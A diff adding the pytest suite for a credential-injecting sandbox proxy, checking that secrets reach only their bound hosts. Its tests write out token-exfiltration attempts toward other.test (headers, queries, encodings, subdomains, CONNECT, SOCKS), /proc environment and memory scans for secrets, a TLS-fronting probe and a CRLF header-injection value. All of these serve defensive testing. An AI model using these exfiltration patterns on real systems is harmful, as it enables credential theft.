@@ -1,0 +1,460 @@
+# SPDX-License-Identifier: MIT
+"""[credential NAME]: the command holds a placeholder; the proxy puts the
+secret in its place only in requests to the credential's hosts, over HTTPS
+(intercepted with the run's CA) and plain HTTP, and refuses a placeholder on
+its way anywhere else.
+
+The upstream servers are the network tests' (test_network.World): good.test
+answers HTTPS on 443 with a certificate from a test CA that the proxy trusts
+through [network] upstream_ca, and /headers echoes what it received, so
+every assertion below is about what the upstream actually got.
+"""
+import base64
+import os
+import re
+import subprocess
+import time
+
+import pytest
+
+from conftest import NOBODY
+from test_network import CLIENT_PRELUDE, MODES, PUB, NetBox, world  # noqa: F401
+
+SECRET = "ghp_realSecretValue0123456789abcdef"  # upstream.py's GIT_SECRET
+OTHER_SECRET = "sk-other-0000-secret-for-other-test"
+ALLOW = "allow = good.test other.test other.test:8080 wrong.test *.good.test"
+CURL = "curl -sS -m 10 "
+
+
+@pytest.fixture(params=MODES, ids=["root-ns", "root-broker", "user-ns", "user-broker"])
+def cred(request, world):  # noqa: F811
+    b = NetBox(world, *request.param)
+    yield b
+    b.cleanup()
+
+
+@pytest.fixture
+def one(world):  # noqa: F811
+    """One mode, for behaviour that does not depend on the mechanism."""
+    b = NetBox(world, "nobody", "namespace")
+    yield b
+    b.cleanup()
+
+
+def policy(box, creds=None, network="", upstream_ca=True):
+    net = ALLOW + "\n" + network
+    if upstream_ca:
+        net += "\nupstream_ca = %s" % box.path("bin", "ca.pem")
+    if creds is None:
+        creds = "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n" \
+                "hosts = good.test\n"
+    return box.net_policy(net, creds)
+
+
+def run(box, script, pol, env=None, **kw):
+    e = {"RF_SECRET": SECRET}
+    e.update(env or {})
+    return box.sh(script, pol, env=e, **kw)
+
+
+def audit(box):
+    with open(box.audit) as f:
+        return f.read()
+
+
+def test_https_to_the_bound_host_carries_the_secret(cred):
+    p = policy(cred)
+    r = run(cred, 'echo "token=$GITHUB_TOKEN"; ' + CURL +
+            '-H "Authorization: Bearer $GITHUB_TOKEN" "https://good.test/headers?key=$GITHUB_TOKEN"',
+            p)
+    assert r.returncode == 0, r.stderr
+    token = re.search(r"token=(\S+)", r.stdout).group(1)
+    assert re.fullmatch(r"ringfence_github_[A-Za-z0-9]{24}", token), token
+    assert "Authorization: Bearer %s" % SECRET in r.stdout
+    assert "GET /headers?key=%s\n" % SECRET in r.stdout
+    ev = cred.events("cred.inject")
+    assert {(e["credential"], e["where"], e["host"]) for e in ev} == {
+        ("github", "header", "good.test"), ("github", "target", "good.test")}
+    assert all(e["proto"] == "https" for e in ev)
+    assert SECRET not in audit(cred) and SECRET not in r.stderr
+
+
+def test_placeholders_are_unique_per_run(one):
+    p = policy(one)
+    a = run(one, "echo $GITHUB_TOKEN", p).stdout
+    b = run(one, "echo $GITHUB_TOKEN", p).stdout
+    assert a != b and a.startswith("ringfence_github_")
+
+
+def test_plain_http_forward_and_socks_carry_it_too(one):
+    p = policy(one)
+    r = run(one, CURL + '-H "X-Api-Key: $GITHUB_TOKEN" http://good.test/headers; ' +
+            CURL + '--proxy "$ALL_PROXY" -H "X-Api-Key: $GITHUB_TOKEN" http://good.test/headers',
+            p)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.count("X-Api-Key: %s" % SECRET) == 2, r.stdout
+    assert {e["proto"] for e in one.events("cred.inject")} == {"http"}
+
+
+def test_basic_authorization_is_rewritten_inside(one):
+    p = policy(one)
+    r = run(one, CURL + '-u "x-access-token:$GITHUB_TOKEN" https://good.test/headers', p)
+    assert r.returncode == 0, r.stderr
+    want = base64.b64encode(("x-access-token:" + SECRET).encode()).decode()
+    assert "Authorization: Basic %s" % want in r.stdout
+    assert [e["where"] for e in one.events("cred.inject")] == ["basic"]
+
+
+def test_operator_placeholder_and_file_source(one):
+    secret_file = one.write("secret.txt", OTHER_SECRET + "\n", mode=0o600, owner=NOBODY)
+    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = file:%s\n"
+               "hosts = good.test\nplaceholder = ghp_0000000000000000000000placeholder\n"
+               % secret_file)
+    r = run(one, 'echo "$GITHUB_TOKEN"; ' + CURL +
+            '-H "Authorization: token $GITHUB_TOKEN" https://good.test/headers', p)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.startswith("ghp_0000000000000000000000placeholder\n")
+    # read before the privilege drop, the line end dropped
+    assert "Authorization: token %s\n" % OTHER_SECRET in r.stdout
+
+
+def test_exfiltration_attempts_are_refused(cred):
+    p = policy(cred, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
+               "hosts = good.test\n[credential other]\nenv = OTHER_TOKEN\n"
+               "source = env:RF_OTHER\nhosts = other.test:8080\n")
+    script = CLIENT_PRELUDE + r'''
+import base64, socket, urllib.parse
+T = os.environ["GITHUB_TOKEN"]
+def status(data):
+    out = ask(data)
+    return out.split(b"\r\n", 1)[0].decode() if out else "closed"
+tries = {
+    "header": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.encode(),
+    "query": b"GET http://other.test/headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n" % T.encode(),
+    "percent": b"GET http://other.test/headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n"
+        % urllib.parse.quote(T, safe="").replace("_", "%5F").encode(),
+    "lowercase": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.lower().encode(),
+    "basic": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nAuthorization: Basic %s\r\n\r\n"
+        % base64.b64encode(b"x:" + T.encode()),
+    "another credential's host": b"GET http://other.test:8080/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.encode(),
+    "host name": b"GET http://%s.good.test/ HTTP/1.1\r\nHost: x\r\n\r\n" % T.lower().encode(),
+    "connect": b"CONNECT %s.good.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % T.lower().encode(),
+}
+for name, data in tries.items():
+    print(name, "=", status(data))
+# SOCKS5 to an allowed host, a plain request carrying the placeholder
+s = dial()
+s.sendall(b"\x05\x01\x00")
+s.recv(2)
+s.sendall(b"\x05\x01\x00\x03\x0aother.test\x00\x50")
+print("socks reply =", s.recv(10)[1])
+s.sendall(b"GET /headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n" % T.encode())
+print("socks =", read_all(s)[:20])
+# a kept-alive connection: the second request goes to another host
+s = dial()
+s.sendall(b"GET http://good.test/headers HTTP/1.1\r\nHost: good.test\r\nX-T: %s\r\n\r\n"
+          b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n"
+          % (T.encode(), T.encode()))
+out = read_all(s).decode("latin-1")
+import re
+print("keepalive =", re.findall(r"HTTP/1\.1 \d+ [A-Za-z]+", out))
+print("first carried it:", "@SECRET@" in out)
+'''.replace("@SECRET@", SECRET)
+    cred.write("work/client.py", script)
+    r = cred.run(["/usr/bin/python3", "client.py"], policy=p,
+                 env={"RF_SECRET": SECRET, "RF_OTHER": OTHER_SECRET})
+    assert r.returncode == 0, r.stderr
+    out = dict(l.split(" = ", 1) for l in r.stdout.splitlines() if " = " in l)
+    for name in ("header", "query", "percent", "lowercase", "basic", "another credential's host",
+                 "host name", "connect"):
+        assert out[name].startswith("HTTP/1.1 403"), (name, r.stdout)
+    assert out["socks reply"] == "0" and out["socks"] == "b''", r.stdout
+    assert out["keepalive"] == "['HTTP/1.1 200 OK', 'HTTP/1.1 403 Forbidden']", r.stdout
+    assert "first carried it: True" in r.stdout
+    blocks = cred.events("cred.block")
+    assert {e["where"] for e in blocks} >= {"header", "target", "basic", "host", "stream"}
+    assert all(e["credential"] == "github" for e in blocks), blocks
+    assert SECRET not in audit(cred) and OTHER_SECRET not in audit(cred)
+    # the placeholder in a host name never reached the DNS server
+    token = [e for e in blocks if e["where"] == "host"]
+    assert token and not any("ringfence_github" in q for q in cred.world.dns_queries())
+    assert "placeholder of credential github" in r.stderr  # the exit summary
+
+
+def test_python_node_and_git_clients(cred):
+    p = policy(cred)
+    script = r'''
+import json, os, requests, urllib.request
+T = os.environ["GITHUB_TOKEN"]
+S = "%s"
+s = requests.Session()
+for i in range(30):
+    r = s.get("https://good.test/headers", headers={"Authorization": "Bearer " + T})
+    assert r.status_code == 200 and ("Bearer " + S) in r.text, r.text
+print("requests ok")
+req = urllib.request.Request("https://good.test/headers", headers={"X-Key": T})
+body = urllib.request.urlopen(req, timeout=10).read().decode()
+print("urllib ok", ("X-Key: " + S) in body)
+''' % SECRET
+    cred.write("work/client.py", script)
+    r = cred.run(["/usr/bin/python3", "client.py"], policy=p, env={"RF_SECRET": SECRET})
+    assert r.returncode == 0, r.stderr
+    assert "requests ok" in r.stdout and "urllib ok True" in r.stdout
+    # thirty requests, one tunnel: keep-alive inside the interception
+    assert len([e for e in cred.events("net.allow") if e["proto"] == "connect"]) <= 2
+    assert len(cred.events("cred.inject")) == 31
+
+    r = run(cred, 'git -c credential.helper= clone -q '
+            '"https://x-access-token:$GITHUB_TOKEN@good.test/private/repo.git" out && '
+            'cat out/README', p, env={"HOME": cred.work})
+    assert r.returncode == 0, r.stderr
+    assert r.stdout == "through the proxy\n"
+    assert "basic" in {e["where"] for e in cred.events("cred.inject")}
+
+    if not os.path.exists("/usr/bin/node"):
+        pytest.skip("node is not installed")
+    cred.write("work/client.js", NODE_CLIENT)
+    r = cred.run(["/usr/bin/node", "client.js"], policy=p, env={"RF_SECRET": SECRET})
+    assert r.returncode == 0, r.stderr
+    assert "Authorization: Bearer %s" % SECRET in r.stdout
+
+
+# Node 20 reads no proxy variables: a CONNECT by hand, then TLS over it,
+# trusting the CA through NODE_EXTRA_CA_CERTS as any Node program would.
+NODE_CLIENT = r"""
+const http = require("http"), tls = require("tls");
+const [host, port] = process.env.HTTPS_PROXY.split("//")[1].split(":");
+const req = http.request({host, port, method: "CONNECT", path: "good.test:443"});
+req.on("connect", (res, socket) => {
+  const s = tls.connect({socket, servername: "good.test"}, () => {
+    s.write("GET /headers HTTP/1.1\r\nHost: good.test\r\nAuthorization: Bearer " +
+            process.env.GITHUB_TOKEN + "\r\nConnection: close\r\n\r\n");
+  });
+  let out = "";
+  s.on("data", d => out += d);
+  s.on("end", () => { console.log(out); process.exit(0); });
+  s.on("error", e => { console.error(e.message); process.exit(1); });
+});
+req.end();
+"""
+
+
+def test_large_bodies_chunked_and_websocket_inside_tls(one):
+    p = policy(one)
+    script = r'''
+import hashlib, os, requests, socket, ssl, base64
+T = os.environ["GITHUB_TOKEN"]
+s = requests.Session()
+data = os.urandom(5 * 1024 * 1024)
+r = s.post("https://good.test/upload", data=data, headers={"X-T": T})
+print("cl", r.text.strip() == "%d %s" % (len(data), hashlib.sha256(data).hexdigest()))
+r = s.post("https://good.test/upload", data=iter([data[:1000000], data[1000000:]]))
+print("chunked up", r.text.strip() == "%d %s" % (len(data), hashlib.sha256(data).hexdigest()))
+r = s.get("https://good.test/big?n=20000000")
+print("big", len(r.content) == 20000000)
+r = s.get("https://good.test/chunked")
+print("chunked down", r.text.count("line") == 50)
+# WebSocket through the intercepted stream
+p = os.environ["HTTPS_PROXY"].split("//")[1].rsplit(":", 1)
+c = socket.create_connection((p[0], int(p[1])))
+c.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")
+assert c.recv(100).startswith(b"HTTP/1.1 200")
+ctx = ssl.create_default_context()
+w = ctx.wrap_socket(c, server_hostname="good.test")
+key = base64.b64encode(os.urandom(16)).decode()
+w.sendall(("GET /ws HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+           "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nX-T: %s\r\n\r\n" % (key, T)).encode())
+head = b""
+while b"\r\n\r\n" not in head:
+    head += w.recv(1)
+print("ws", head.split(b"\r\n")[0].decode())
+msg = b"hello"
+mask = b"\x01\x02\x03\x04"
+w.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
+frame = w.recv(100)
+print("ws echo", frame[2:].decode())
+'''
+    one.write("work/client.py", script)
+    r = one.run(["/usr/bin/python3", "client.py"], policy=p, env={"RF_SECRET": SECRET},
+                timeout=120)
+    assert r.returncode == 0, r.stderr
+    for line in ("cl True", "chunked up True", "big True", "chunked down True",
+                 "ws HTTP/1.1 101 Switching Protocols", "ws echo echo:hello"):
+        assert line in r.stdout, r.stdout
+
+
+def test_bad_upstream_certificate_is_a_clear_502(one):
+    # wrong.test is served good.test's certificate: the name does not match
+    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
+               "hosts = good.test wrong.test\n")
+    r = run(one, CURL + "https://wrong.test/headers -o /dev/null -w '%{http_code}\\n'", p)
+    assert r.stdout.strip() == "502", (r.stdout, r.stderr)
+    err = [e for e in one.events("net.error") if "certificate" in e["reason"]]
+    assert err and "hostname mismatch" in err[0]["reason"], one.events()
+    # without upstream_ca the test CA is unknown: refused the same way
+    p = policy(one, upstream_ca=False)
+    r = run(one, CURL + "https://good.test/headers -o /dev/null -w '%{http_code}\\n'", p)
+    assert r.stdout.strip() == "502", (r.stdout, r.stderr)
+    assert any("unable to get local issuer certificate" in e["reason"]
+               for e in one.events("net.error"))
+
+
+def test_a_client_that_does_not_trust_the_ca(one):
+    p = policy(one)
+    r = run(one, CURL + "--cacert /etc/ssl/certs/ca-certificates.crt https://good.test/", p)
+    assert r.returncode == 60, (r.returncode, r.stderr)  # curl: peer certificate refused
+    err = [e for e in one.events("net.error") if "TLS handshake with the client" in e["reason"]]
+    assert err and "unknown ca" in err[0]["reason"], one.events()
+
+
+def test_unbound_hosts_stay_opaque_and_sni_must_match(one):
+    script = CLIENT_PRELUDE + r'''
+import ssl, sys
+def tunnel(sni):
+    s = dial()
+    s.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")
+    assert s.recv(100).startswith(b"HTTP/1.1 200")
+    ctx = ssl.create_default_context(cafile=sys.argv[1])  # the test CA only
+    ctx.check_hostname = False
+    try:
+        ctx.wrap_socket(s, server_hostname=sni)
+        return "ok"
+    except (ssl.SSLError, OSError):
+        return "refused"
+print("fronted =", tunnel("evil.test"))
+print("plain =", tunnel("good.test"))
+'''
+    one.write("work/client.py", script)
+    ca = one.path("bin", "ca.pem")
+    # no credential for good.test: the tunnel is opaque, the upstream's own
+    # certificate (the test CA's) reaches the client; a TLS name other than
+    # the CONNECT target is refused
+    r = one.run(["/usr/bin/python3", "client.py", ca], policy=policy(one, creds=""))
+    assert r.returncode == 0, r.stderr
+    assert "fronted = refused" in r.stdout and "plain = ok" in r.stdout, r.stdout
+    assert [e for e in one.events("net.deny") if "TLS names evil.test" in e["reason"]]
+    # bound: the run's CA answers, which the test CA does not verify
+    r = one.run(["/usr/bin/python3", "client.py", ca], policy=policy(one),
+                env={"RF_SECRET": SECRET})
+    assert "fronted = refused" in r.stdout and "plain = refused" in r.stdout, r.stdout
+
+
+def test_the_command_cannot_read_the_secret(box_env):
+    box, p = box_env
+    script = r'''
+import glob, os
+S = bytes.fromhex("%s")  # a piece of the secret, not in any environment
+leaks = []
+for k, v in os.environ.items():
+    if S in v.encode():
+        leaks.append("env " + k)
+for f in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + [
+        os.environ["SSL_CERT_FILE"]]:
+    try:
+        if S in open(f, "rb").read():
+            leaks.append(f)
+    except OSError:
+        pass
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        try:
+            with open("/proc/%%s/mem" %% pid, "rb") as m:
+                m.read(1)
+            leaks.append("mem " + pid)
+        except OSError:
+            pass
+print("leaks:", leaks)
+''' % SECRET[4:].encode().hex()
+    box.write("work/look.py", script)
+    r = box.run(["/usr/bin/python3", "look.py"], policy=p,
+                env={"RF_SECRET": SECRET, "GH_COPY": "prefix-" + SECRET})
+    assert r.returncode == 0, r.stderr
+    assert "leaks: []" in r.stdout, r.stdout
+
+
+@pytest.fixture(params=[("root", "namespace", "on"), ("nobody", "broker", "off")],
+                ids=["root-ns", "user-nons"])
+def box_env(request, world):  # noqa: F811
+    user, iso, ns = request.param
+    b = NetBox(world, user, iso, namespaces=ns)
+    # GH_COPY holds the secret too and is scrubbed, though env_keep lets it
+    # through
+    p = b.net_policy(ALLOW + "\nupstream_ca = %s" % b.path("bin", "ca.pem"),
+                     "[process]\nenv_keep = PATH HOME LANG GH_COPY\n"
+                     "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
+                     "hosts = good.test\n")
+    yield b, p
+    b.cleanup()
+
+
+def test_supervisor_environment_is_scrubbed_and_bundle_removed(one):
+    p = policy(one)
+    proc = one.popen(["sh", "-c", 'echo "$SSL_CERT_FILE"; sleep 3'], policy=p,
+                     env={"RF_SECRET": SECRET}, stdout=subprocess.PIPE, text=True)
+    bundle = proc.stdout.readline().strip()
+    time.sleep(0.3)
+    assert os.path.exists(bundle)
+    st = os.stat(bundle)
+    assert st.st_mode & 0o777 == 0o644
+    with open(bundle) as f:
+        pem = f.read()
+    assert "BEGIN CERTIFICATE" in pem and SECRET not in pem
+    # the supervisor: setpriv execs ringfence, so its pid is proc.pid
+    with open("/proc/%d/environ" % proc.pid, "rb") as f:
+        env = f.read()
+    assert SECRET.encode() not in env and SECRET[4:].encode() not in env
+    with open("/proc/%d/status" % proc.pid) as f:
+        assert "ringfence" in f.read()
+    proc.wait(timeout=20)
+    assert not os.path.exists(bundle) and not os.path.exists(os.path.dirname(bundle))
+
+
+def test_the_ca_is_constrained_to_the_bound_hosts(one):
+    p = policy(one)
+    one.write("work/last.py", "import os\n"
+              "pem = open(os.environ['SSL_CERT_FILE']).read()\n"
+              "print('-----BEGIN' + pem.split('-----BEGIN')[-1], end='')\n")
+    r = run(one, "/usr/bin/python3 last.py | openssl x509 -noout -text", p)
+    assert r.returncode == 0, r.stderr
+    text = r.stdout
+    assert "ringfence interception CA" in text
+    assert re.search(r"Permitted:\s+DNS:good.test\s+Excluded:\s+IP:0.0.0.0/0.0.0.0", text), text
+    assert "CA:TRUE, pathlen:0" in text
+    assert "ASN1 OID: prime256v1" in text
+
+
+BAD = [
+    ("missing env", "source = env:RF_NOT_SET", {}, "RF_NOT_SET is not set"),
+    ("empty env", "source = env:RF_SECRET", {"RF_SECRET": ""}, "the secret is empty"),
+    ("missing file", "source = file:/nonexistent/secret", {}, "No such file"),
+    ("empty file", "source = file:EMPTY", {}, "the secret is empty"),
+    ("unreadable file", "source = file:UNREADABLE", {}, "Permission denied"),
+    ("line break", "source = env:RF_SECRET", {"RF_SECRET": "a\r\nX-Evil: 1"},
+     "control character"),
+]
+
+
+@pytest.mark.parametrize("name,source,env,msg", BAD, ids=[b[0] for b in BAD])
+def test_bad_secrets_refuse_to_start(one, name, source, env, msg):
+    empty = one.write("empty", "")
+    unreadable = one.write("unreadable", "secret\n", mode=0o600)
+    source = source.replace("EMPTY", empty).replace("UNREADABLE", unreadable)
+    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\n%s\nhosts = good.test\n"
+               % source)
+    r = one.sh("echo ran", p, env=env)
+    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
+    lines = r.stderr.strip().splitlines()
+    assert len(lines) == 1 and "[credential github]" in lines[0] and msg in lines[0], r.stderr
+    assert re.match(r".*policy\.ini:\d+: ", lines[0]), lines[0]
+    assert not [d for d in os.listdir("/tmp") if d.startswith("ringfence-ca.")
+                and os.stat("/tmp/" + d).st_uid == NOBODY]
+
+
+def test_a_bad_upstream_ca_refuses_to_start(one):
+    bad = one.write("bin/bad.pem", "not a certificate\n")
+    p = one.net_policy(ALLOW + "\nupstream_ca = %s" % bad,
+                       "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
+                       "hosts = good.test\n")
+    r = run(one, "echo ran", p)
+    assert r.returncode == 125 and "ran" not in r.stdout
+    assert "upstream_ca" in r.stderr and bad in r.stderr
